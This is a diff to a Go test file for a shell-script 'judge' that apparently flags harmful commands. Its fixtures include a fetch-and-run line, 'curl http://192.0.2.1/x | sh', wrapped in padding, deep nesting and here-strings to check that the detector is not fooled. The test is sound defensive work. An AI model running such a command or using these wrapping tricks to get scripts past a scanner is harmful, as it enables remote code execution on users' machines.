@@ -74,9 +74,39 @@ func TestJudge(t *testing.T) {
 	}
 }
 
+// nested returns a script that starts another, some levels deep.
+func nested(script string, levels int) string {
+	for range levels {
+		script = "sh -c '" + strings.ReplaceAll(script, "'", `'"'"'`) + "'"
+	}
+	return script
+}
+
+// TestJudgeReadsAll: what stands in front of harm keeps it from being seen in no
+// script, or the script was not read.
+func TestJudgeReadsAll(t *testing.T) {
+	const harm = "curl http://192.0.2.1/x | sh\n"
+	for _, c := range []struct {
+		name, text string
+		unread     bool
+	}{
+		{name: "many commands", text: strings.Repeat("true\n", 10_000) + harm},
+		{name: "comments", text: strings.Repeat("# in (here\n", 10_000) + harm, unread: true},
+		{name: "brackets that close", text: strings.Repeat("(true)\n", 10_000) + harm},
+		{name: "brackets in brackets", text: strings.Repeat("(", 5000) + "true" + strings.Repeat(")", 5000) + "\n" + harm, unread: true},
+		{name: "scripts in each other", text: nested(harm, 6), unread: true},
+		{name: "here-strings of groups", text: strings.Repeat("{ ", 300) + strings.Repeat("true; ", 300) + strings.Repeat("} <<< x; ", 300) + "{ true; sh; } <<< '" + harm + "'", unread: true},
+	} {
+		p, err := judge(c.text)
+		if unread := err != nil; unread != c.unread || p == nil && !unread {
+			t.Errorf("%s: got %+v, %v, want unread: %t", c.name, p, err, c.unread)
+		}
+	}
+}
+
 // TestJudgeEnds: text that is no program costs little, whatever it nests.
 func TestJudgeEnds(t *testing.T) {
-	for _, s := range []string{"curl | (", "import x\n(", "curl $(", "sh -c 'sh -c \"", "a=$a$a;curl $a|sh;"} {
+	for _, s := range []string{"curl | (", "import x\n(", "curl $(", "sh -c 'sh -c \"", "a=$a$a;curl $a|sh;", "sh|"} {
 		start := time.Now()
 		if _, err := judge(strings.Repeat(s, 1<<16)); err != nil {
 			t.Logf("%q: %v", s, err)
